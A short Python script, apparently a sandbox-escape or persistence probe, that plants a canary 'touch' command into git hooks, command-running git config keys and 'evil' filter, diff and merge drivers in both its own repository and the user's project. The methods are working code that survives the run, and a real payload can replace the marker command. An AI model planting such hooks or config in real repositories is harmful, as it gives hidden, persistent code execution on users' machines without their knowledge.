"""Plants what git runs later, as its user: hooks, settings, in its own repository and in the user's."""
import json, os, subprocess
context = json.loads(os.environ["NEXUS_CONTEXT"])
run = f"touch {context['sign']}"
for repository in (os.getcwd(), context["project"]):
    for name in ("post-checkout", "pre-commit", "post-merge", "reference-transaction"):
        try:
            path = f"{repository}/.git/hooks/{name}"
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(f"#!/bin/sh\n{run}\n")
            os.chmod(path, 0o755)
        except OSError:
            pass
    for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "uploadpack.packObjectsHook", "diff.external"):
        subprocess.run(["git", "-C", repository, "config", key, run], capture_output=True)
with open(".gitattributes", "w") as file:
    file.write("* filter=evil diff=evil merge=evil\n")
for key in ("filter.evil.clean", "filter.evil.smudge", "diff.evil.command", "merge.evil.driver"):
    subprocess.run(["git", "config", key, run], capture_output=True)
subprocess.run(["git", "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=", "add", ".gitattributes"], capture_output=True)
print("end")
